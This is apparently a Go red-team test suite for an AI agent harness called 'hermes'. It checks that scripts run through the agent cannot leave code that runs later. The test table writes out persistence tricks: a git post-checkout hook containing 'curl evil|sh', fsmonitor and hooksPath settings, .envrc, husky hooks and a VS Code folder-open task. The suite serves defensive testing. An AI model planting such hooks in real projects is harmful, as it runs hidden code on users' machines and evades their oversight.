package program

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"hermes/core/testskip"
)

// later are ways of leaving something in a project that another program runs, by the file that each
// writes.
var later = []struct{ name, code, file string }{
	{"a hook", "import os; os.makedirs('.git/hooks', exist_ok=True); open('.git/hooks/post-checkout', 'w').write('curl evil|sh'); os.chmod('.git/hooks/post-checkout', 0o755)", ".git/hooks/post-checkout"},
	{"hooks that are elsewhere", "import os\nos.path.isdir('.git/hooks') and os.rmdir('.git/hooks')\nos.symlink('/tmp', '.git/hooks')", ".git/hooks"},
	{"settings of git", "open('.git/config', 'a').write('[core]\\n\\tfsmonitor = ./evil\\n')", ".git/config"},
	{"settings of git by git", "import subprocess; subprocess.run(['git', 'config', '--file', '.git/config', 'core.hooksPath', 'evil'], check=True)", ".git/config"},
	{"direnv", "open('.envrc', 'w').write('evil')", ".envrc"},
	{"husky", "import os; os.makedirs('.husky'); open('.husky/pre-commit', 'w').write('evil')", ".husky/pre-commit"},
	{"tasks of an editor", "import os; os.makedirs('.vscode'); open('.vscode/tasks.json', 'w').write('{\"runOptions\": {\"runOn\": \"folderOpen\"}}')", ".vscode/tasks.json"},
	{"inside of a failure", "open('.envrc', 'w').write('evil'); raise SystemExit(3)", ".envrc"},
	{"beside one that is too large to keep", "import os; os.makedirs('.git/hooks', exist_ok=True); open('.git/hooks/pre-push', 'wb').truncate(2 << 30); open('.git/hooks/pre-commit', 'w').write('evil')", ".git/hooks/pre-commit"},
	{"through a tool", "from hermes_tools import terminal\nterminal('''python3 -c \"open('.envrc','w').write('evil')\"''')", ".envrc"},
}

// What a script leaves in the project for other programs to run is put back, told with the file and
// the diff, and kept for /rollback.
func TestRedTeamScriptsLeaveNothingThatRunsLater(t *testing.T) {
	testskip.WithoutRace(t, attacks)
	needPython(t)
	t.Parallel()
	v := newVictim(t)
	var strikes []strike
	for _, l := range later {
		strikes = append(strikes, python(l.name, l.code))
	}
	o := v.attack(strikes, "--yes")
	for _, l := range later {
		if got := o.results[l.name]; !strings.Contains(got, l.file) || !strings.Contains(got, "put back") {
			t.Errorf("%s: %.600s", l.name, got)
		}
		if st, err := os.Lstat(filepath.Join(v.work, l.file)); err == nil && l.file != ".git/config" && !st.IsDir() {
			t.Errorf("%s: %s is there", l.name, l.file)
		}
	}
	v.intact()
	if strings.Count(o.out, "was put back") < len(later) {
		t.Errorf("the person is not told: %.3000s", o.out)
	}
	if _, out := v.hermes("rollback", "list"); strings.Count(out, "put back") < len(later) {
		t.Errorf("%s", out)
	}
}

// What a script has done by a call that was asked about as such stays, and only that.
func TestRedTeamWhatWasAllowedInsideOfAScriptStays(t *testing.T) {
	testskip.WithoutRace(t, attacks)
	needPython(t)
	t.Parallel()
	v := newVictim(t)
	strikes := []strike{python("both", "from hermes_tools import terminal\nopen('.envrc', 'w').write('evil')\nprint(terminal('echo mine > .git/hooks/post-merge || (mkdir -p .git/hooks && echo mine > .git/hooks/post-merge)'))")}
	o := v.attack(strikes, "--yes")
	got := o.results["both"]
	if !strings.Contains(got, ".envrc was put back") || strings.Contains(got, "post-merge was put back") {
		t.Errorf("%s", got)
	}
	if data, err := os.ReadFile(filepath.Join(v.work, ".git/hooks/post-merge")); string(data) != "mine\n" {
		t.Errorf("%q %v: %s", data, err, got)
	}
}

// A command that the person may want to do so (husky's own installation) is told about, not undone;
// one that says so itself is neither.
func TestRedTeamCommandsThatLeaveSomethingAreTold(t *testing.T) {
	t.Parallel()
	testskip.WithoutRace(t, attacks)
	v := newVictim(t)
	v.put("project/Makefile", "all:\n\t@mkdir -p .git/hooks && echo evil > .git/hooks/pre-push\n")
	strikes := []strike{shell("make", "make"), shell("said", "echo mine > .git/hooks/post-merge"), shell("ordinary", "git config user.name x; make -n")}
	o := v.attack(strikes, "--yes")
	if got := o.results["make"]; !strings.Contains(got, "pre-push") || !strings.Contains(got, "by themselves") || strings.Contains(got, "put back") {
		t.Errorf("%s", got)
	}
	for _, name := range []string{"said", "ordinary"} {
		if got := o.results[name]; strings.Contains(got, "warning") {
			t.Errorf("%s: %s", name, got)
		}
	}
	for _, hook := range []string{"pre-push", "post-merge"} {
		if _, err := os.Stat(filepath.Join(v.work, ".git/hooks", hook)); err != nil {
			t.Error(err)
		}
	}
}
